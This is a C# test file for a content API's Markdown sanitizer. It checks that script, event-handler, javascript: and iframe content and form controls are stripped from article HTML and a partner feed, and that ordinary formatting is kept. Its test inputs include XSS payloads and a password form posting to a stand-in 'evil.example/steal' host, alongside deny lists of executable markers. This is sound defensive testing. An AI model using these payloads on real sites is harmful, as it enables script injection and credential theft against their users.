using System.Text.RegularExpressions;

namespace ContentApi.Tests.Articles;

/// <summary>The Markdown body is served as sanitized HTML and plain text: nothing executable gets through.</summary>
public sealed partial class ArticleBodyTests(ContentApiFactory api) : IClassFixture<ContentApiFactory>
{
    private static readonly string[] Executable = ["<script", "onerror", "javascript:", "<iframe"];

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("<iframe src=\"https://evil.example\">")]
    [InlineData("Inline <script>alert(1)</script> and <img src=x onerror=alert(1)> and [x](javascript:alert(1)).\n\n<iframe src=\"https://evil.example\"></iframe>")]
    public async Task RemovesExecutableContent(string markdown)
    {
        var client = api.CreateClient();
        var request = await client.NewArticleRequestAsync() with { Body = $"Safe opening paragraph.\n\n{markdown}" };

        var created = await client.CreateArticleAsync(request);

        var (article, _) = await client.GetArticleAsync(created.Id);
        foreach (var dangerous in Executable)
        {
            Assert.DoesNotContain(dangerous, article.Body.Html, StringComparison.OrdinalIgnoreCase);
        }

        Assert.DoesNotMatch(Tag(), article.Body.Text);
        Assert.Contains("<p>Safe opening paragraph.</p>", article.Body.Html, StringComparison.Ordinal);
        Assert.StartsWith("Safe opening paragraph.", article.Body.Text, StringComparison.Ordinal);
        Assert.Equal(markdown, article.Body.Markdown.Split("\n\n", 2)[1]);
    }

    [Fact]
    public async Task RemovesFormControls_AndGivesLinksThatOpenElsewhereRelNoopenerNoreferrer_InTheArticleAndPartnerFeeds()
    {
        var client = api.CreateClient();
        const string Markdown = "Read on.\n\n<form action=\"https://evil.example/steal\" method=\"post\"><label>Password <input name=\"p\" type=\"password\"></label>"
            + "<select name=\"s\"><option>x</option></select><textarea name=\"t\"></textarea><button formaction=\"https://evil.example\">Send</button></form>\n\n"
            + "<a href=\"https://news.example/a\" target=\"_blank\">away</a> and <a href=\"https://news.example/b\" target=\"_blank\" rel=\"nofollow\">further</a> "
            + "and [here](https://news.example/c).";
        var created = await client.CreateArticleAsync(await client.NewArticleRequestAsync() with { Body = Markdown });
        using var partner = api.CreateClientFor(ContentApi.Persistence.ApiRole.Partner);

        var (article, _) = await client.GetArticleAsync(created.Id);
        var feed = (await partner.GetStringAsync($"/v1/feeds/articles.json?section={Uri.EscapeDataString(created.Section)}"));
        var fromFeed = System.Text.Json.JsonDocument.Parse(feed).RootElement.GetProperty("items").EnumerateArray()
            .Single(i => i.GetProperty("id").GetString()!.EndsWith($"/{created.Id}", StringComparison.Ordinal)).GetProperty("content_html").GetString()!;

        foreach (var html in new[] { article.Body.Html, fromFeed })
        {
            foreach (var control in new[] { "<form", "<input", "<button", "<select", "<option", "<textarea", "<label", "action=", "evil.example" })
            {
                Assert.DoesNotContain(control, html, StringComparison.OrdinalIgnoreCase);
            }

            var opening = Regex.Matches(html, "<a [^>]*>").Select(m => m.Value).ToList();
            Assert.Equal(3, opening.Count);
            Assert.All(opening.Where(a => a.Contains("target=", StringComparison.Ordinal)), a =>
            {
                Assert.Matches("rel=\"[^\"]*\\bnoopener\\b", a);
                Assert.Matches("rel=\"[^\"]*\\bnoreferrer\\b", a);
            });
            Assert.Contains("nofollow", opening[1], StringComparison.Ordinal);
            Assert.DoesNotContain("rel=", opening[2], StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task KeepsLegitimateMarkdown()
    {
        var client = api.CreateClient();
        const string Markdown = "# Talks in Bamako\n\nThe minister was *firm* and **brief**.\n\n- first point\n- second point\n\nRead [the statement](https://news.example/statement).";
        var request = await client.NewArticleRequestAsync() with { Body = Markdown };

        var article = await client.CreateArticleAsync(request);

        var html = article.Body.Html;
        Assert.Matches("<h1[^>]*>Talks in Bamako</h1>", html);
        Assert.Contains("<em>firm</em>", html, StringComparison.Ordinal);
        Assert.Contains("<strong>brief</strong>", html, StringComparison.Ordinal);
        Assert.Matches("<ul>\\s*<li>first point</li>\\s*<li>second point</li>\\s*</ul>", html);
        Assert.Contains("<a href=\"https://news.example/statement\">the statement</a>", html, StringComparison.Ordinal);
        Assert.Equal(
            "Talks in Bamako\n\nThe minister was firm and brief.\n\nfirst point second point\n\nRead the statement.",
            article.Body.Text);
    }

    [Fact]
    public async Task DropsScriptContentFromPlainText()
    {
        var client = api.CreateClient();
        var request = await client.NewArticleRequestAsync() with { Body = "Before.\n\n<script>alert(1)</script>\n\nAfter." };

        var article = await client.CreateArticleAsync(request);

        Assert.Equal("Before.\n\nAfter.", article.Body.Text);
        Assert.Equal(2, article.WordCount);
    }

    [GeneratedRegex("<[a-zA-Z/!]")]
    private static partial Regex Tag();
}
